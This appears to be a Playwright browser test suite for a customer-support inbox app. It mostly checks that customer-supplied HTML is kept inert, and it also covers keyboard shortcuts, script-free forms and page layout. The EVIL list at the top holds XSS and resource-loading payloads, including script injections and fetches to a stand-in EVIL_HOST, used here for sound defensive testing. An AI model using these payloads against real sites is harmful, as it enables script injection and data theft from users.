"""In a real browser: does nothing of what customers send run, and do the pages work?"""

import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import BrowserContext, Page, expect

from inquiry.journey import SpecialistName
from inquiry.understood import Attachment, Party
from inquiry.words import State
from specialists.acts import answering
from storage import arrivals, credentials
from storage.database import Transaction
from storage.inquiries import reading
from tests.inquiries import KASIA, Opened, a_message
from tests.servers.chromium import chromium
from tests.servers.programs import needed
from tests.web.site import Site
from web.access import SESSION

pytestmark = pytest.mark.server
RUN = "window.top.ran=1;alert(1);fetch('EVIL_HOST/')"
EVIL = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    "<img src='EVIL_HOST/pixel.png'>",
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    "<iframe src='EVIL_HOST/'></iframe>",
    f"<body onload=\"{RUN}\" background='EVIL_HOST/b.png'>",
    "<meta http-equiv=refresh content='0;url=EVIL_HOST/'>",
    "<base href='EVIL_HOST/'><img src=p.png>",
    "<link rel=stylesheet href='EVIL_HOST/s.css'>",
    "<link rel=prefetch href='EVIL_HOST/p'>",
    "<style>@import 'EVIL_HOST/i.css';body{background:url(EVIL_HOST/u)}</style>",
    "<style>@font-face{font-family:e;src:url(EVIL_HOST/f)}p{font-family:e}</style><p>x",
    f'<details open ontoggle="{RUN}">x</details>',
    f'<input autofocus onfocus="{RUN}">',
    "<form action='EVIL_HOST/'><input autofocus><button>x</button></form>",
    f'<a href="javascript:{RUN}" id=evil>x</a>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "<video src='EVIL_HOST/v' autoplay></video><audio src='EVIL_HOST/a' autoplay>",
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="data:text/html,<script>{RUN}</script>">',
    f"</textarea></title></style></script>--><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"' autofocus onfocus='{RUN}' x='",
    "{{ 7 * 7 }}{% raw %}",
)


@dataclass
class Watched:
    """A signed-in browser, and everything it should not do."""

    page: Page
    context: BrowserContext
    base: str
    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    evil: str = ""
    """Where everything that customers send wants to call."""

    async def open(self, path: str) -> None:
        await self.page.goto(self.base + path, wait_until="load")

    def attacks(self) -> list[str]:
        return [evil.replace("EVIL_HOST", self.evil) for evil in EVIL]

    async def ran(self) -> bool:
        return bool(await self.page.evaluate("'ran' in window"))

    async def called(self, request: web.Request) -> web.Response:
        self.foreign.append(request.path)
        return web.Response(text="ran")


@pytest.fixture
async def browser(site: Site) -> AsyncIterator[Watched]:
    needed("chromium")
    async with chromium() as started:
        base = str(site.client.make_url("/")).rstrip("/")
        context = await started.new_context()
        who = SpecialistName(KASIA)
        token = await site.db.write(
            lambda tx: credentials.open_session(tx, who, now=site.desk.now())
        )
        await context.add_cookies([{"name": SESSION, "value": token, "url": base}])
        page = await context.new_page()
        watched = Watched(page=page, context=context, base=base)
        elsewhere = web.Application()
        elsewhere.router.add_route("*", "/{path:.*}", watched.called)
        server = TestServer(elsewhere)
        await server.start_server()
        watched.evil = str(server.make_url("/")).rstrip("/")

        async def dismiss(dialog: object) -> None:
            watched.dialogs.append(str(dialog))
            await dialog.dismiss()  # type: ignore[attr-defined]

        page.on("dialog", dismiss)
        yield watched
        await server.close()


async def hostile(site: Site, evil: str) -> Opened:
    """Open an inquiry that says ``evil`` wherever a customer can say something.

    Its HTML is stored as it is: what cleaning may have missed, the box has to hold.
    """
    message = a_message(
        sender=Party(f"{evil[:60]}@x.example", evil),
        subject=evil,
        text=evil,
        new_text=evil,
        quoted_text=evil,
        signature=evil,
        html=evil,
    )
    opened = await site.inquiries.opened(message)

    async def attach(tx: Transaction) -> None:
        it = await reading.shown(tx, opened.reference)
        attachment = Attachment(
            filename=evil, content_type=evil, size=1, sha256="", content=evil.encode()
        )
        await arrivals.add_attachment(tx, opened.arrival, attachment)
        message = it.messages[0].id
        await tx.run(
            "opening.adopt_attachments", arrival=opened.arrival, message=message, blocked=0
        )

    await site.db.write(attach)
    await site.inquiries.kept_aside(opened, message)
    return opened


async def test_nothing_that_customers_send_runs_or_loads(site: Site, browser: Watched) -> None:
    for evil in browser.attacks():
        opened = await hostile(site, evil)
        await browser.open(f"/inquiry/{opened.reference}")
        for summary in await browser.page.locator("summary").all():
            await summary.click()
        frame = browser.page.frame_locator("iframe.mail")
        await frame.locator("html").wait_for(state="attached")
        assert not await browser.ran(), evil
        await browser.open(await site.link(opened))
        assert not await browser.ran(), evil
    await browser.open("/inbox")
    assert await browser.page.locator(".list li").count() == len(EVIL)
    assert not await browser.ran()
    assert browser.dialogs == []
    assert browser.foreign == []


async def test_the_box_holds_also_when_it_is_opened_alone(site: Site, browser: Watched) -> None:
    for evil in browser.attacks():
        opened = await hostile(site, evil)
        await browser.open(f"/inquiry/{opened.reference}/html/1".replace("/1", f"/{opened.id}"))
        assert not await browser.ran(), evil
    assert browser.dialogs == []
    assert browser.foreign == []


async def test_the_other_side_would_notice(browser: Watched) -> None:
    await browser.page.goto(f"{browser.evil}/here")
    assert browser.foreign[0] == "/here"


async def test_an_attachment_is_saved_and_not_shown(site: Site, browser: Watched) -> None:
    evil = browser.attacks()[0]
    opened = await hostile(site, evil)
    await browser.open(f"/inquiry/{opened.reference}")
    async with browser.page.expect_download() as saving:
        await browser.page.locator(".files a").first.click()
    saved = await (await saving.value).path()
    assert saved.read_bytes() == evil.encode()
    assert not await browser.ran()


async def test_an_inquiry_is_answered_by_keyboard(site: Site, browser: Watched) -> None:
    opened = await site.inquiries.opened()
    await browser.open("/inbox")
    page = browser.page
    await page.keyboard.press("j")
    await page.keyboard.press("Enter")
    await page.wait_for_url(re.compile(opened.reference))
    await page.keyboard.press("n")
    await expect(page.get_by_label("Your internal note")).to_be_visible()
    await expect(page.get_by_label("Your answer to the customer")).to_be_hidden()
    await page.keyboard.type("rna")  # letters, once one is writing
    await expect(page.get_by_label("Your internal note")).to_have_value("rna")
    await page.keyboard.press("Escape")
    await page.keyboard.press("r")
    await page.keyboard.type("Wyłączyć i włączyć.")
    await page.keyboard.press("Control+Enter")
    await page.get_by_text("waiting for customer").first.wait_for()
    it = await site.db.read(lambda tx: reading.shown(tx, opened.reference))
    assert it.state is State.WAITING_FOR_CUSTOMER
    assert it.messages[-1].text == "Wyłączyć i włączyć."


async def test_an_answer_is_taken_back_by_keyboard(site: Site, browser: Watched) -> None:
    opened = await site.inquiries.opened()
    await browser.open(f"/inquiry/{opened.reference}")
    page = browser.page
    for text in ("first", "second"):
        await page.keyboard.press("r")
        await page.keyboard.type(text)
        await page.keyboard.press("Control+Enter")
        await page.locator(".entry.out").get_by_text(text).wait_for()
    await expect(page.get_by_role("button", name="Undo")).to_have_count(2)
    await page.keyboard.press("z")
    await page.get_by_text("Taken back in time").wait_for()
    await expect(page.get_by_label("Your answer to the customer")).to_have_value("second")
    await expect(page.get_by_role("button", name="Undo")).to_have_count(1)


async def test_no_mark_in_the_list_is_cut_off(site: Site, browser: Watched) -> None:
    opened = await site.inquiries.opened()
    await answering.answer(
        site.db,
        inquiry=opened.id,
        specialist=SpecialistName(KASIA),
        text="one",
        now=site.desk.now(),
    )
    await browser.page.set_viewport_size({"width": 1280, "height": 800})
    await browser.open("/inbox")
    mark = browser.page.locator(".list .chip", has_text="waiting for customer")
    assert await mark.evaluate("one => one.scrollWidth <= one.clientWidth")


async def test_everything_works_without_scripts(site: Site, browser: Watched) -> None:
    opened = await site.inquiries.opened()
    assert browser.context.browser
    plain = await browser.context.browser.new_context(
        java_script_enabled=False, storage_state=await browser.context.storage_state()
    )
    page = await plain.new_page()
    await page.goto(f"{browser.base}/inquiry/{opened.reference}")
    note = page.get_by_label("Your internal note")
    await expect(note).to_be_hidden()
    await page.get_by_role("radio", name="Internal note").check()
    await note.fill("same as before")
    await page.get_by_role("button", name="Add note").click()
    await expect(page.get_by_text("same as before")).to_be_visible()
    await page.get_by_label("Priority").select_option("urgent")
    await page.get_by_role("button", name="Set Priority").click()
    await expect(page.locator(".chip.urgent")).to_be_visible()
    await page.get_by_role("radio", name="Reply to").check()
    await page.get_by_label("Your answer to the customer").fill("Wyłączyć.")
    await page.get_by_role("button", name="Send and resolve").click()
    await page.get_by_role("button", name="Undo").click()
    await expect(page.get_by_label("Your answer to the customer")).to_have_value("Wyłączyć.")


@pytest.mark.parametrize("width", [320, 390, 768, 1440])
async def test_no_page_is_wider_than_the_screen(site: Site, browser: Watched, width: int) -> None:
    opened = await site.inquiries.opened(a_message(subject="x" * 200, new_text="y" * 500))
    link = await site.link(opened)
    await browser.page.set_viewport_size({"width": width, "height": 800})
    for path in ("/inbox", f"/inquiry/{opened.reference}", "/new", "/status", "/outbox", link):
        await browser.open(path)
        wide = await browser.page.evaluate("document.documentElement.scrollWidth")
        assert wide <= width, (path, wide)


async def test_what_is_said_begins_at_the_edge_and_the_form_keeps_its_distance(
    site: Site, browser: Watched
) -> None:
    opened = await site.inquiries.opened(a_message(new_text="Short."))
    await browser.open(f"/inquiry/{opened.reference}")
    entries = browser.page.locator(".entries > *")
    assert {
        await one.evaluate("one => getComputedStyle(one).textAlign") for one in await entries.all()
    } == {"start"}
    last = await entries.last.bounding_box()
    form = await browser.page.locator("#composer").bounding_box()
    assert last
    assert form
    assert form["y"] - (last["y"] + last["height"]) >= 10


async def test_a_customer_says_that_it_works(site: Site, browser: Watched) -> None:
    opened = await site.inquiries.opened()
    await browser.open(await site.link(opened))
    page = browser.page
    await page.get_by_label("Twoja wiadomość").fill("Dziękuję!")
    await page.get_by_role("button", name="Wyślij").click()
    assert await page.get_by_role("status").inner_text()
    assert len(site.inlet.arrivals) == 1
    await page.get_by_role("button", name="To już działa").click()
    await page.get_by_text("oznaczono jako rozwiązane").wait_for()
    it = await site.db.read(lambda tx: reading.shown(tx, opened.reference))
    assert it.state is State.RESOLVED
